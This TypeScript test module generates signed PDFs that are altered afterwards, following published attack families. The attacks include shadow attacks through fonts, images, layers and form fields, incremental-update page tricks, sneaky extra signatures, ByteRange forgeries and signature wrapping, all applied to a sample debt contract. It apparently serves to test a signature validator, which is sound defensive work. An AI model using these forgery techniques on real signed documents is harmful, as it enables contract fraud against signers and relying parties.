/**
 * For tests: attacks of the published families that change what a page needs rather than the page, after
 * "Shadow Attacks" (NDSS 2021), "Breaking the Specification: PDF Certification" (S&P 2021) and "1 Trillion
 * Dollar Refund" (CCS 2019).
 */
import type { CmsOptions } from '../../cms/cms.ts';
import {
  annots,
  type Bodies,
  contract,
  type ForgedSignature,
  forgeSignature,
  formBody,
  lastXref,
  objectBytes,
  pageBody,
  stream,
  table,
  update,
  writePdf,
} from './forge.ts';

const debt = (amount: string) => stream(`BT /F1 18 Tf 20 200 Td (I owe ${amount}) Tj ET`);
const formKeys = (box: string) =>
  `/Type /XObject /Subtype /Form /BBox [${box}] /Resources << /Font << /F1 5 0 R >> >>`;
const cover = stream(
  '1 g 0 0 100 40 re f 0 g BT /F1 18 Tf 2 10 Td (1 000 000) Tj ET',
  formKeys('0 0 100 40'),
);

const one: ForgedSignature = {
  field: 10,
  value: 11,
  catalogue: formBody(10),
  page: pageBody(annots(10)),
};

/** A file prepared, signed, and then changed. */
interface Attack {
  /** Objects before signing, beside or instead of the contract's. */
  readonly before: Bodies;
  readonly signature?: Partial<ForgedSignature>;
  readonly after: Bodies;
  readonly root?: number;
}

const resources = (more: string) =>
  pageBody(annots(10)).replace('/Font << /F1 5 0 R >>', `/Font << /F1 5 0 R >> ${more}`);
const needs = (more: string, objects: Bodies, content = contract('I owe 1 000')[4] ?? '') => ({
  before: { 3: resources(more).replace(annots(10), ''), 4: content, ...objects },
  signature: { page: resources(more) },
});
const catalogue = (more: string) => formBody(10).replace('/Pages', `${more} /Pages`);
const font = (more: string) => `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${more} >>`;
const glyph = (square: string) => stream(`1000 0 0 0 750 750 d1 ${square} re f`);
const type3 =
  '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a 40 0 R >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] /Resources << >> >>';
const layers = (off: string) =>
  `/OCProperties << /OCGs [40 0 R 41 0 R] /D << /ON [] /OFF [${off}] /Order [] >> >>`;
const layered =
  '/OC /Two BDC BT /F1 18 Tf 20 200 Td (I owe 1 000 000) Tj ET EMC /OC /One BDC BT /F1 18 Tf 20 150 Td (I owe 1 000) Tj ET EMC';
const layerObjects = {
  40: '<< /Type /OCG /Name (one) >>',
  41: '<< /Type /OCG /Name (two) >>',
};
const filled = (value: string, look: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /F 4 /Rect [100 100 200 120] /DA (/F1 12 Tf 0 g) /V (${value}) ${look} >>`;
const fields = (more = '') =>
  `<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /DR << /Font << /F1 5 0 R >> >> /Fields [33 0 R 10 0 R] ${more} >> >>`;
const look = stream('BT /F1 12 Tf (1 000) Tj ET', formKeys('0 0 100 20'));
const fielded = (value: string, more = '/AP << /N 34 0 R >>') => ({
  before: {
    1: fields().replace(' 10 0 R]', ']'),
    3: pageBody(annots(33)),
    33: filled(value, more),
    34: look,
  },
  signature: { catalogue: fields(), page: pageBody(annots(33, 10)) },
});
const tint = (white: boolean) => `<< /FunctionType 2 /Domain [0 1] /N 1 /C0 [1] /C1 [${white ? 1 : 0}] >>`;
const coloured = '/ColorSpace << /C1 [/Separation /Ink /DeviceGray 40 0 R] >>';
const attached = '<< /Type /Filespec /F (real.pdf) /UF (real.pdf) /EF << /F 41 0 R >> >>';
const annotation = (subtype: string, more = '') => ({
  3: pageBody(annots(10, 30)),
  30: `<< /Type /Annot /Subtype /${subtype} /F 4 /Rect [70 190 170 230] /AP << /N 31 0 R >> ${more} >>`,
  31: cover,
});

const prepared: Readonly<Record<string, Attack>> = {
  // Shadow attacks by what a page's content refers to.
  'shadow: the codes of a font mean other letters': {
    before: { 5: font('/Encoding 40 0 R'), 40: '<< /Type /Encoding /Differences [49 /one] >>' },
    after: { 40: '<< /Type /Encoding /Differences [49 /nine] >>' },
  },
  'shadow: the widths of a font': {
    before: { 5: font('/FirstChar 32 /LastChar 33 /Widths 40 0 R'), 40: '[278 278]' },
    after: { 40: '[278 9000]' },
  },
  'shadow: what a font copies as': {
    before: { 5: font('/ToUnicode 40 0 R'), 40: stream('1 beginbfchar <31> <0031> endbfchar') },
    after: { 40: stream('1 beginbfchar <31> <0039> endbfchar') },
  },
  'shadow: the drawing of a letter': {
    before: { 5: type3, 4: stream('BT /F1 18 Tf 20 200 Td (a) Tj ET'), 40: glyph('0 0 100 750') },
    after: { 40: glyph('0 0 750 750') },
  },
  'shadow: a picture is replaced': {
    ...needs(
      '/XObject << /X1 40 0 R >>',
      {
        40: stream(
          '\x00',
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
        ),
      },
      stream('BT /F1 18 Tf 20 200 Td (I owe 1 000) Tj ET q 40 0 0 40 20 20 cm /X1 Do Q'),
    ),
    after: {
      40: stream(
        '\xff',
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
      ),
    },
  },
  'shadow: the mask of a picture': {
    ...needs(
      '/XObject << /X1 40 0 R >>',
      {
        40: stream(
          '\x00',
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 41 0 R',
        ),
        41: stream(
          '\xff',
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
        ),
      },
      stream('BT /F1 18 Tf 20 200 Td (I owe 1 000) Tj ET q 40 0 0 40 20 20 cm /X1 Do Q'),
    ),
    after: {
      41: stream(
        '\x00',
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
      ),
    },
  },
  'shadow: how opaque a state paints': {
    ...needs(
      '/ExtGState << /G1 40 0 R >>',
      { 40: '<< /Type /ExtGState /ca 1 >>' },
      stream('/G1 gs BT /F1 18 Tf 20 200 Td (I owe 1 000) Tj ET'),
    ),
    after: { 40: '<< /Type /ExtGState /ca 0 >>' },
  },
  'shadow: an ink becomes white': {
    ...needs(
      coloured,
      { 40: tint(false) },
      stream('/C1 cs 1 scn BT /F1 18 Tf 20 200 Td (I owe 1 000) Tj ET'),
    ),
    after: { 40: tint(true) },
  },
  'shadow: a form within the page': {
    ...needs(
      '/XObject << /X1 40 0 R >>',
      { 40: stream('BT /F1 18 Tf 20 200 Td (I owe 1 000) Tj ET', formKeys('0 0 300 300')) },
      stream('/X1 Do'),
    ),
    after: { 40: stream('BT /F1 18 Tf 20 200 Td (I owe 9 000) Tj ET', formKeys('0 0 300 300')) },
  },
  'shadow: layers change places': {
    before: {
      1: `<< /Type /Catalog /Pages 2 0 R ${layers('41 0 R')} >>`,
      3: resources('/Properties << /One 40 0 R /Two 41 0 R >>').replace(annots(10), ''),
      4: stream(layered),
      ...layerObjects,
    },
    signature: {
      catalogue: catalogue(layers('41 0 R')),
      page: resources('/Properties << /One 40 0 R /Two 41 0 R >>'),
    },
    after: { 1: catalogue(layers('40 0 R')) },
  },
  'shadow: a catalogue that slept in the file': {
    before: {
      40: '<< /Type /Catalog /Pages 41 0 R >>',
      41: '<< /Type /Pages /Kids [42 0 R] /Count 1 >>',
      42: pageBody().replace('2 0 R', '41 0 R').replace('4 0 R', '43 0 R'),
      43: debt('1 000 000'),
    },
    after: {},
    root: 40,
  },
  'shadow: the value below a field is drawn': {
    ...fielded('1 000 000'),
    after: { 1: fields('/NeedAppearances true') },
  },
  'shadow: a field falls back to its default': {
    ...fielded('1 000', '/AP << /N 34 0 R >> /DV (1 000 000)'),
    after: { 1: fields().replace('/Pages', '/OpenAction << /S /ResetForm >> /Pages') },
  },
  'shadow: a field loses its look': { ...fielded('1 000 000'), after: { 33: filled('1 000 000', '') } },
  'shadow: the font of the fields': {
    ...fielded('1 000'),
    after: { 1: fields().replace('/F1 5 0 R', '/F1 40 0 R'), 40: font('').replace('Helvetica', 'Symbol') },
  },
  'shadow: a form of another kind': {
    before: {},
    after: { 1: formBody(10).replace('/SigFlags', '/XFA 40 0 R /SigFlags'), 40: stream('<xdp/>') },
  },

  // Pages that are shown otherwise.
  'pages: cropped from above': {
    before: {},
    after: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 /CropBox [0 0 300 100] >>' },
  },
  'pages: turned from above': {
    before: {},
    after: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 90 >>' },
  },
  'pages: larger units': { before: {}, after: { 3: pageBody(`${annots(10)} /UserUnit 4`) } },
  'pages: shown twice': {
    before: {},
    after: { 2: '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>' },
  },
  'pages: an attached file is shown instead': {
    before: {},
    after: {
      1: catalogue(
        '/Collection << /Type /Collection /View /H /D (real.pdf) >> /Names << /EmbeddedFiles << /Names [(real.pdf) 40 0 R] >> >>',
      ),
      40: attached,
      41: stream('%PDF-1.4', '/Type /EmbeddedFile'),
    },
  },
  'pages: what is read aloud': {
    before: {
      1: '<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 40 0 R >>',
      40: '<< /Type /StructTreeRoot /K 41 0 R >>',
      41: '<< /Type /StructElem /S /P /P 40 0 R /ActualText (1 000) >>',
    },
    signature: { catalogue: catalogue('/MarkInfo << /Marked true >> /StructTreeRoot 40 0 R') },
    after: { 41: '<< /Type /StructElem /S /P /P 40 0 R /ActualText (1 000 000) >>' },
  },

  // Evil annotations of kinds that few readers know.
  ...Object.fromEntries(
    ['Redact', 'Watermark', 'Ink', 'Screen', 'FileAttachment', 'Link', 'Square', 'Unheard'].map(
      (kind): [string, Attack] => [
        `annotation: ${kind}`,
        {
          before: {},
          after: annotation(kind, kind === 'Watermark' ? '/FixedPrint << /Type /FixedPrint >>' : ''),
        },
      ],
    ),
  ),
};

/** The attack files by attack; `first` is the victim, `second` an attacker with their own certificate. */
export async function outsiderAttacks(
  first: CmsOptions,
  second: CmsOptions,
): Promise<ReadonlyMap<string, Buffer>> {
  const files = new Map<string, Buffer>();
  for (const [name, { before, signature, after, root }] of Object.entries(prepared)) {
    const file = writePdf({ ...contract('I owe 1 000'), ...before });
    const signed = await forgeSignature(file, first, { ...one, ...signature });
    files.set(name, update(signed, after, root === undefined ? {} : { root }));
  }
  const plain = writePdf(contract('I owe 1 000'));
  const signed = await forgeSignature(plain, first, one);

  // Sneaky signatures.
  const sneaky: Readonly<Record<string, Partial<ForgedSignature>>> = {
    'on paper only': { flags: 36 },
    'in a state of its look': { fieldKeys: '/AS /On' },
    'with a background': { fieldKeys: '/MK << /BG [1 1 1] /CA (1 000 000) >>' },
    'with a caption': { fieldKeys: '/DA (/F1 18 Tf 0 g) /MK << /CA (1 000 000) >>' },
  };
  for (const [what, how] of Object.entries(sneaky)) {
    files.set(
      `sneaky signature: ${what}`,
      await forgeSignature(signed, second, {
        field: 12,
        value: 13,
        catalogue: formBody(10, 12),
        page: pageBody(annots(10, 12)),
        rect: '60 190 190 230',
        appearance: '1 g 0 0 100 40 re f',
        ...how,
      }),
    );
  }

  files.set('wrapping: another table where the old one was', wrapped(signed, plain));
  const text = signed.toString('latin1');
  const range = /\/ByteRange \[([^\]]*)\]/.exec(text)?.[1]?.trim() ?? '';
  const contents = /\/Contents (<[0-9a-f]+>)/.exec(text)?.[1] ?? '';
  const value = (keys: string) =>
    update(signed, {
      4: debt('1 000 000'),
      11: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${keys} >>`,
    });
  const [start = 0, before = 0, next = 0, after = 0] = range.split(' ').map(Number);
  const forged: Readonly<Record<string, Buffer>> = {
    'a range with fractions': value(
      `/ByteRange [${start}.0 ${before}.0 ${next}.0 ${after}.0] /Contents ${contents}`,
    ),
    'a range in three parts': value(`/ByteRange [${range} ${signed.length} 0] /Contents ${contents}`),
    'a range in another object': update(signed, {
      4: debt('1 000 000'),
      40: `[${range}]`,
      11: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange 40 0 R /Contents ${contents} >>`,
    }),
    'contents in another object': update(signed, {
      4: debt('1 000 000'),
      40: contents,
      11: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [${range}] /Contents 40 0 R >>`,
    }),
    'two ranges': value(`/ByteRange [${range}] /ByteRange [0 0 0 0] /Contents ${contents}`),
    'a huge range': value(`/ByteRange [0 99999999999999999999 ${next} ${after}] /Contents ${contents}`),
    'another kind of signature': update(signed, {
      4: debt('1 000 000'),
      11: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.x509.rsa_sha1 /ByteRange [${range}] /Contents ${contents} >>`,
    }),
  };
  for (const [what, file] of Object.entries(forged)) files.set(`forgery: ${what}`, file);

  // What fits behind a signature in its own room.
  const other = await forgeSignature(plain, second, one);
  const theirs = /\/Contents <([0-9a-f]+?)0{64,}>/.exec(other.toString('latin1'))?.[1] ?? '';
  const objects = objectBytes(4, debt('1 000 000')).toString('hex');
  const paddings = { 'another signature': theirs, 'an object': objects, spaces: '20'.repeat(50) };
  for (const [what, padding] of Object.entries(paddings)) {
    files.set(`padding: ${what}`, await forgeSignature(plain, first, { ...one, padding }));
  }
  return files;
}

/**
 * Signature wrapping: the signed end moves back, its `startxref` still names the old place, and there lies a
 * table of the attacker, in the gap that no signature covers.
 */
function wrapped(signed: Buffer, plain: Buffer): Buffer {
  const end = signed.indexOf('>', signed.lastIndexOf('/Contents <')) + 1;
  const begin = signed.lastIndexOf('/Contents <') + '/Contents '.length;
  const tail = signed.subarray(end);
  const old = lastXref(signed);
  const head = Buffer.concat([signed.subarray(0, end), Buffer.from(' >>\nendobj\n')]);
  const at = (num: number) => signed.lastIndexOf(`\n${num} 0 obj`) + 1;
  const content = objectBytes(4, debt('1 000 000'));
  const build = (newEnd: number) => {
    const value = objectBytes(
      11,
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 ${begin} ${newEnd} ${tail.length}] /Contents ${signed.subarray(begin, end).toString('latin1')} >>`,
    );
    const xref = (first: number) =>
      `${table({ 1: at(1), 3: at(3), 4: first, 10: at(10), 11: first + content.length })}trailer\n<< /Size 60 /Root 1 0 R /Prev ${lastXref(plain)} >>\nstartxref\n${old}\n%%EOF\n`;
    const filler = Buffer.alloc(Math.max(0, old - head.length), ' ');
    const first = old + xref(1_000_000_000).length;
    return Buffer.concat([head, filler, Buffer.from(xref(first)), content, value, tail]);
  };
  const guess = build(1_000_000_000).length - tail.length;
  // The place of the signed end has as many digits as it needs, so the length settles after some rounds.
  let newEnd = guess;
  for (let round = 0; round < 4; round += 1) newEnd = build(newEnd).length - tail.length;
  return build(newEnd);
}
